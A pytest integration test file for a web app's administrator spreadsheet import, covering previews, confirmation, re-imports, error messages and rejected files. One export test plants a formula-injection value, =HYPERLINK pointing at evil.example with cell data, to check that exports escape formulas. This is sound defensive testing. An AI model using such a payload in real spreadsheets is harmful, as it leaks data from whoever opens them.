"""Administrators import the programme spreadsheet: preview, confirm, re-import, bad files."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from app.models import (
    AuditEvent,
    Directorate,
    PhaseChange,
    ProgrammeUpload,
    Project,
    TeamMembership,
)
from app.rules.permissions import Role
from tests.integration.factories import make_project
from tests.integration.test_pages import check_page

HEADINGS = [
    "Project name",
    "Description",
    "Directorate",
    "Owner email",
    "Stage",
    "Key deliverables",
    "Cashable benefit (£ a year)",
    "Non-cashable benefit",
]


@pytest.fixture
def admin(signed_in_as):
    return signed_in_as(Role.ADMINISTRATOR)


@pytest.fixture
def owners(make_person):
    return (
        make_person(name="Ada Owner", email="ada.owner@example.gov.uk"),
        make_person(name="Ben Owner", email="ben.owner@example.gov.uk"),
    )


def rows(*extra):
    return [
        [
            "Library room booking",
            "Book rooms in libraries.",
            "Communities",
            "ada.owner@example.gov.uk",
            "concept",
            "Booking prototype",
            "£12,000",
            "low",
        ],
        [
            "Pothole reporting",
            "Report potholes online.",
            "Highways",
            "BEN.OWNER@example.gov.uk",
            "Delivery",
            "",
            "",
            "High",
        ],
        *extra,
    ]


def csv_file(table, headings=HEADINGS, encoding="utf-8") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headings)
    writer.writerows(table)
    return out.getvalue().encode(encoding)


def xlsx_file(table, headings=HEADINGS, sheets=1) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headings)
    for row in table:
        sheet.append(row)
    for number in range(1, sheets):
        workbook.create_sheet(f"Sheet {number + 1}")
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def upload(client, content: bytes, filename: str = "programme.csv", follow_redirects=True):
    return client.submit(
        "/admin/import",
        {"file": (io.BytesIO(content), filename)},
        follow_redirects=follow_redirects,
    )


def confirm(client, response):
    """Confirm the preview ``response`` shows, as the administrator would."""
    page = response.get_data(as_text=True)
    digest = re.search(r'name="digest" type="hidden" value="([0-9a-f]+)"', page) or re.search(
        r'type="hidden" name="digest" value="([0-9a-f]+)"', page
    )
    assert digest, page[:3000]
    url = response.request.path
    return client.submit(url, {"digest": digest.group(1)}, follow_redirects=True)


def count(database, model) -> int:
    return database.scalar(select(func.count()).select_from(model))


def snapshot(database):
    return (
        count(database, Project),
        count(database, Directorate),
        count(database, AuditEvent),
        count(database, TeamMembership),
        count(database, PhaseChange),
    )


def test_only_administrators_import(client, signed_in_as):
    signed_in_as(Role.BOARD_MEMBER, Role.ORGANISER)
    assert client.get("/admin/import").status_code == 403
    assert client.get("/admin/import/template.csv").status_code == 403


def test_the_import_page_explains_the_columns_and_offers_the_template(client, admin):
    response = client.get("/admin/import")
    check_page(response)
    page = response.get_data(as_text=True)
    assert '<h1 class="govuk-heading-l">Import the programme</h1>' in page
    assert 'enctype="multipart/form-data"' in page
    assert "/admin/import/template.xlsx" in page
    assert "/admin/import/template.csv" in page
    assert "Key deliverables" in page
    # In the navigation, marked as the current area.
    assert re.search(
        r'aria-current="page" href="/admin/import"|href="/admin/import"[^>]*aria-current', page
    )


def test_the_templates_read_back_with_every_column(client, admin):
    response = client.get("/admin/import/template.csv")
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data().decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(text)))[1:] == HEADINGS

    response = client.get("/admin/import/template.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    assert len(workbook.worksheets) == 1
    first = next(workbook.worksheets[0].iter_rows(values_only=True))
    assert list(first)[1:] == HEADINGS


def test_a_good_file_is_previewed_then_imported_and_importing_it_again_changes_nothing(
    client, admin, owners, database
):
    before = snapshot(database)
    response = upload(client, csv_file(rows()))
    page = response.get_data(as_text=True)
    assert response.status_code == 200, page[:2000]
    check_page(response)
    assert "Check what the import will change" in page
    assert page.count(">New</strong>") == 2
    assert "Communities, Highways" in page  # the new directorates, said before they are added
    assert "Service owner: Ada Owner" in page
    # Nothing is saved before the administrator confirms: only the upload is kept.
    assert snapshot(database) == before
    assert count(database, ProgrammeUpload) == 1

    done = confirm(client, response)
    page = done.get_data(as_text=True)
    assert "govuk-notification-banner--success" in page
    assert "2 projects added, 0 projects changed and 0 projects unchanged" in page
    assert count(database, ProgrammeUpload) == 0

    library = database.scalar(select(Project).where(Project.name == "Library room booking"))
    assert library.phase == "discovery"
    assert library.directorate.name == "Communities"
    assert library.key_deliverables == "Booking prototype"
    assert library.cashable_benefit == 12000
    assert library.non_cashable_benefit == "low"
    assert [(m.person.email, m.team_role) for m in library.memberships] == [
        ("ada.owner@example.gov.uk", "service_owner")
    ]
    potholes = database.scalar(select(Project).where(Project.name == "Pothole reporting"))
    assert potholes.phase == "private_beta"
    assert potholes.cashable_benefit is None
    assert potholes.non_cashable_benefit == "high"

    events = database.scalars(select(AuditEvent).order_by(AuditEvent.id)).all()[-3:]
    assert [(e.verb, e.subject_type) for e in events] == [
        ("created", "project"),
        ("created", "project"),
        ("imported", "programme_import"),
    ]
    assert events[-1].actor_id == admin.id

    # The same file again: every row unchanged, and confirming it changes no project.
    after_first = snapshot(database)
    response = upload(client, csv_file(rows()))
    page = response.get_data(as_text=True)
    assert page.count(">Unchanged</strong>") == 2
    assert "Nothing will change" in page
    # Nothing to import, so no import button: a way back instead.
    assert 'name="digest"' not in page and "Import the programme</button>" not in page
    assert '<a href="/admin/import" role="button"' in page
    assert "Back to import the programme</a>" in page
    projects, directorates, audit, members, moves = snapshot(database)
    assert (projects, directorates, members, moves) == (
        after_first[0],
        after_first[1],
        after_first[3],
        after_first[4],
    )
    assert audit == after_first[2]  # nothing imported


def test_the_same_programme_as_xlsx_imports_too(client, admin, owners, database):
    table = rows()
    table[0][6] = 12000  # a number, as a spreadsheet holds it
    response = upload(client, xlsx_file(table), "programme.xlsx")
    assert response.get_data(as_text=True).count(">New</strong>") == 2
    confirm(client, response)
    library = database.scalar(select(Project).where(Project.name == "Library room booking"))
    assert library.cashable_benefit == 12000


def test_an_edited_file_updates_the_matching_projects(client, admin, owners, database):
    ada, _ = owners
    existing = make_project(database, name="Blue Badge applications", phase="public_beta")
    existing.memberships[:] = [TeamMembership(person=ada, team_role="service_owner")]
    database.commit()
    headings = ["ID", *HEADINGS]
    table = [
        # By its ID: renamed, moved to design, a new owner, new benefits.
        [
            str(existing.id),
            "Blue Badges",
            "A test project.",
            "Test directorate",
            "ben.owner@example.gov.uk",
            "design",
            "Online form",
            "5000",
            "moderate",
        ],
    ]
    response = upload(client, csv_file(table, headings))
    page = response.get_data(as_text=True)
    assert ">Changed</strong>" in page
    assert "Name changes from “Blue Badge applications” to “Blue Badges”" in page
    assert "Stage changes from Delivery (public beta) to Design (alpha)" in page
    assert "Ben Owner becomes the service owner" in page
    assert "Key deliverables added" in page
    confirm(client, response)

    database.refresh(existing)
    assert existing.name == "Blue Badges"
    assert existing.phase == "alpha"
    assert existing.key_deliverables == "Online form"
    assert existing.cashable_benefit == 5000
    roles = {m.person.email: m.team_role for m in existing.memberships}
    assert roles == {
        "ada.owner@example.gov.uk": "member",
        "ben.owner@example.gov.uk": "service_owner",
    }
    move = database.scalar(
        select(PhaseChange)
        .where(PhaseChange.project_id == existing.id)
        .order_by(PhaseChange.id.desc())
    )
    assert (move.from_phase, move.to_phase, move.changed_by_id) == (
        "public_beta",
        "alpha",
        admin.id,
    )
    event = database.scalar(
        select(AuditEvent)
        .where(AuditEvent.project_id == existing.id)
        .order_by(AuditEvent.id.desc())
    )
    assert event.summary == "Changed by the programme import"
    assert event.changes["name"] == ["Blue Badge applications", "Blue Badges"]

    # Without an ID, a row matches by name within its directorate. "Delivery" is already
    # true of a project in public beta: no phase change.
    existing.phase = "public_beta"
    database.commit()
    table = [
        [
            "Blue Badges",
            "A better description.",
            "test directorate",
            "ben.owner@example.gov.uk",
            "delivery",
            "Online form",
            "5000",
            "moderate",
        ]
    ]
    response = upload(client, csv_file(table))
    page = response.get_data(as_text=True)
    assert "Description changed" in page
    assert "Stage changes" not in page
    assert "Name changes" not in page and "Directorate changes" not in page
    confirm(client, response)
    database.refresh(existing)
    assert existing.description == "A better description."
    assert existing.phase == "public_beta"
    assert existing.name == "Blue Badges"


def test_row_errors_are_listed_in_words_and_nothing_is_saved(client, admin, owners, database):
    before = snapshot(database)
    table = rows(
        ["", "No name.", "Highways", "ada.owner@example.gov.uk", "concept", "", "", ""],
        [
            "Bins",
            "Bin collections.",
            "Environment",
            "nobody@example.gov.uk",
            "build",
            "",
            "lots",
            "medium",
        ],
    )
    response = upload(client, csv_file(table), follow_redirects=False)
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    check_page(response)
    assert "<title>Error: Check what the import will change" in page
    assert "govuk-error-summary" in page
    assert "Row 4, Project name: Enter the project name" in page
    assert "Row 5, Owner email: There is no account with this email address" in page
    assert "Row 5, Stage: Stage must be concept, design or delivery" in page
    assert "Row 5, Cashable benefit (£ a year): Cashable benefit must be a number" in page
    assert "Row 5, Non-cashable benefit: Non-cashable benefit must be low, moderate or high" in page
    assert 'href="#row-5"' in page
    assert "Import the programme</button>" not in page
    assert 'name="digest"' not in page
    assert snapshot(database) == before
    assert count(database, ProgrammeUpload) == 0


def _formula_xlsx() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADINGS)
    sheet.append(["A", "B", "C", "ada.owner@example.gov.uk", "concept", "", "=1+2", "low"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


BAD_FILES = {
    "missing columns": (
        lambda: csv_file([["A", "B"]], ["Project name", "Description"]),
        "programme.csv",
        "The file has no Directorate, Owner email or Stage columns",
    ),
    "a column it does not know": (
        lambda: csv_file([[*rows()[0], "1"]], [*HEADINGS, "Budget"]),
        "programme.csv",
        "Column I is headed “Budget”, which is not a column the import uses",
    ),
    "an empty file": (lambda: b"", "programme.csv", "The selected file is empty"),
    "only blank lines": (lambda: b"\r\n,,,\r\n", "programme.csv", "The selected file is empty"),
    "headings only": (
        lambda: csv_file([]),
        "programme.csv",
        "The selected file has headings but no projects",
    ),
    "not a spreadsheet": (
        lambda: b"%PDF-1.4 not a spreadsheet",
        "programme.pdf",
        "The selected file must be a CSV or an Excel spreadsheet (.xlsx)",
    ),
    "a workbook named .csv": (
        lambda: xlsx_file(rows()),
        "programme.csv",
        "The selected file must be a CSV or an Excel spreadsheet (.xlsx)",
    ),
    "a CSV that is not UTF-8": (
        lambda: csv_file(rows(), encoding="cp1252"),
        "programme.csv",
        "The selected CSV file is not saved as UTF-8",
    ),
    "an xlsx with formulas": (
        _formula_xlsx,
        "programme.xlsx",
        "Cell G2 has a formula",
    ),
    "an xlsx with several sheets": (
        lambda: xlsx_file(rows(), sheets=2),
        "programme.xlsx",
        "The selected spreadsheet has 2 sheets",
    ),
    "a damaged xlsx": (
        lambda: b"PK\x03\x04 not really a workbook",
        "programme.xlsx",
        "The selected file is not an Excel spreadsheet that can be read",
    ),
    "an old Excel file": (
        lambda: b"\xd0\xcf\x11\xe0",
        "programme.xls",
        "The selected file is an old Excel spreadsheet (.xls)",
    ),
}


@pytest.mark.parametrize("case", BAD_FILES, ids=list(BAD_FILES))
def test_a_bad_file_gets_a_clear_error_and_saves_nothing(client, admin, owners, database, case):
    make_content, filename, message = BAD_FILES[case]
    before = snapshot(database)
    response = upload(client, make_content(), filename, follow_redirects=False)
    page = response.get_data(as_text=True)
    check_page(response)
    assert "<title>Error: Import the programme" in page
    assert 'href="#file"' in page  # the error summary leads to the file upload
    assert message in page.replace("&#34;", '"').replace("&#39;", "'")
    assert snapshot(database) == before
    assert count(database, ProgrammeUpload) == 0


def test_no_file_chosen(client, admin):
    response = client.submit("/admin/import", {})
    assert "Select the programme spreadsheet to upload" in response.get_data(as_text=True)


def test_a_file_over_the_size_limit_gets_the_services_413_page(client, admin, app, database):
    before = snapshot(database)
    big = csv_file(rows()) + b"x" * (app.config["MAX_CONTENT_LENGTH"] + 1)
    response = upload(client, big, follow_redirects=False)
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert "The information you sent is too large" in page
    assert "A file you upload must be 1 MB or smaller" in page
    assert "govuk-header" in page or "govuk-service-navigation" in page  # our own layout
    assert snapshot(database) == before


def test_nothing_is_imported_when_the_programme_changed_since_the_preview(
    client, admin, owners, database
):
    response = upload(client, csv_file(rows()))
    # Meanwhile, someone adds a project with one of the names.
    project = make_project(database, name="Pothole reporting")
    before = snapshot(database)
    done = confirm(client, response)
    page = done.get_data(as_text=True)
    assert "Nothing was imported" in page
    assert snapshot(database) == before
    assert project.name == "Pothole reporting"
    # The preview now says what the import would do instead.
    assert "A project with this name is in another directorate" in page


def test_an_upload_is_only_its_uploaders(client, admin, owners, database, app, make_person):
    response = upload(client, csv_file(rows()))
    url = response.request.path
    other = make_person([Role.ADMINISTRATOR])
    from tests.integration.conftest import FormClient

    second = FormClient(app.test_client())
    second.sign_in(other.email)
    page = second.get(url, follow_redirects=True).get_data(as_text=True)
    assert "Upload it again to check it" in page
    assert count(database, Project) == snapshot(database)[0]


def test_text_sent_in_place_of_a_file_is_no_file(client, admin, database):
    before = snapshot(database)
    response = client.submit("/admin/import", {"file": "Project name,Description"})
    assert response.status_code == 200
    assert "Select the programme spreadsheet to upload" in response.get_data(as_text=True)
    assert snapshot(database) == before


def test_a_confirmation_with_a_made_up_fingerprint_imports_nothing(client, admin, owners, database):
    response = upload(client, csv_file(rows()))
    before = snapshot(database)
    done = client.submit(response.request.path, {"digest": "0" * 64}, follow_redirects=True)
    assert "Nothing was imported" in done.get_data(as_text=True)
    assert snapshot(database) == before
    assert count(database, ProgrammeUpload) == 1  # still there, to confirm as previewed


def test_an_upload_cannot_be_imported_twice(client, admin, owners, database):
    response = upload(client, csv_file(rows()))
    confirm(client, response)
    before = snapshot(database)
    again = client.submit(
        response.request.path, {"digest": "0" * 64}, follow_redirects=True
    ).get_data(as_text=True)
    assert "This file has been imported already" in again
    assert snapshot(database) == before


def test_the_import_history_of_a_project_is_in_words(client, admin, owners, database):
    confirm(client, upload(client, csv_file(rows())))
    library = database.scalar(select(Project).where(Project.name == "Library room booking"))
    history = client.get(f"/projects/{library.id}/history").get_data(as_text=True)
    assert "Added by the programme import in discovery (concept)" in history
    assert "Service owner set to ada.owner@example.gov.uk" in history


def test_the_programme_as_it_is_imports_with_nothing_changed(client, admin, owners, database):
    ada, _ = owners
    for name, phase in (("Blue Badges", "public_beta"), ("Parking permits", "live")):
        project = make_project(database, name=name, phase=phase)
        project.memberships[:] = [TeamMembership(person=ada, team_role="service_owner")]
        project.key_deliverables = "One\nTwo"
        project.cashable_benefit = 5000
    # Text that starts like a formula, as a team may type it, goes out as text.
    project.description = '=HYPERLINK("http://evil.example/?x="&A1,"Details")'
    database.commit()
    response = client.get("/admin/import/programme.xlsx")
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as workbook:
        assert "<f>" not in workbook.read("xl/worksheets/sheet1.xml").decode()
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    table = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert table[0] == ["ID", *HEADINGS]
    assert [row[1] for row in table[1:]] == ["Blue Badges", "Parking permits"]
    assert table[1][5] == "Public beta"
    assert table[1][4] == "ada.owner@example.gov.uk"

    page = upload(client, response.get_data(), "programme.xlsx").get_data(as_text=True)
    assert page.count(">Unchanged</strong>") == 2
    assert "Nothing will change" in page


def test_moving_a_project_on_past_red_points_is_recorded_as_such(client, admin, owners, database):
    from datetime import UTC, datetime

    from app.data.board import portfolio_rows
    from app.rules.programme_plan import PAST_RED_REASON
    from tests.conftest import TODAY
    from tests.integration.factories import complete_every_point, start_assessment

    ada, _ = owners
    red = make_project(database, name="Blue Badges", phase="alpha", team=[(ada, "service_owner")])
    assessment = start_assessment(database, red, ada)
    complete_every_point(database, assessment, "red", owner=ada)
    assessment.status = "submitted"
    assessment.submitted_at = datetime(2026, 11, 2, tzinfo=UTC)
    database.commit()
    row = ["Blue Badges", "A test project.", "Test directorate", "ada.owner@example.gov.uk"]
    confirm(client, upload(client, csv_file([[*row, "delivery", "", "", ""]])))

    database.refresh(red)
    assert red.phase == "private_beta"
    move = database.scalar(select(PhaseChange).where(PhaseChange.project_id == red.id))
    assert move.override_reason == PAST_RED_REASON
    [board_row] = [r for r in portfolio_rows(None, TODAY) if r.id == red.id]
    assert board_row.moved_on_past_red


def test_an_id_that_is_a_digit_to_python_but_not_a_number_is_a_row_error(
    client, admin, owners, database
):
    table = [["\u00b2", *rows()[0]]]
    response = upload(client, csv_file(table, ["ID", *HEADINGS]))
    assert response.status_code == 200
    assert "ID must be a project&#39;s number, or blank for a new project" in response.get_data(
        as_text=True
    )


# --- What the preview puts first, directorates that nearly match, optional columns ---------


def test_the_preview_lists_problems_then_changes_then_new_then_unchanged(
    client, admin, owners, database
):
    confirm(client, upload(client, csv_file(rows())))
    table = rows(
        ["Bin collections", "Collect bins.", "Communities", "ada.owner@example.gov.uk", "x"],
        ["Street lights", "Light streets.", "Highways", "ben.owner@example.gov.uk", "alpha"],
    )
    table[0][4] = "design"  # Library room booking changes stage; Pothole reporting stays
    page = upload(client, csv_file(table)).get_data(as_text=True)
    tags = re.findall(r'<strong class="govuk-tag[^"]*">(\w+)</strong>', page)
    assert tags == ["Error", "Changed", "New", "Unchanged"]


def test_a_directorate_that_nearly_matches_is_flagged(client, admin, owners, database):
    confirm(client, upload(client, csv_file(rows())))
    directorates = count(database, Directorate)
    table = rows(
        ["Bin collections", "Collect bins.", "communities ", "ada.owner@example.gov.uk", "alpha"],
        [
            "Street lights",
            "Light streets.",
            "Highways Directorate",
            "ben.owner@example.gov.uk",
            "alpha",
        ],
        ["Parks", "Book parks.", "Leisure", "ben.owner@example.gov.uk", "alpha"],
    )
    page = upload(client, csv_file(table)).get_data(as_text=True)
    assert "Directorate “communities” in the file is taken as “Communities”" in page
    assert "Did you mean “Highways”?" in page
    assert "New directorate: Leisure" in page
    assert count(database, Directorate) == directorates


def test_optional_columns_left_out_are_not_missing(client, admin, owners, database):
    confirm(client, upload(client, csv_file(rows())))
    table = [row[:5] for row in rows()]
    response = upload(client, csv_file(table, HEADINGS[:5]))
    page = response.get_data(as_text=True)
    assert "govuk-error-summary" not in page
    assert (
        "The file has no Key deliverables, Cashable benefit (£ a year), Non-cashable benefit"
        in page
    )
    assert "optional" in page
    assert page.count(">Unchanged</strong>") == 2  # what the projects have there stays
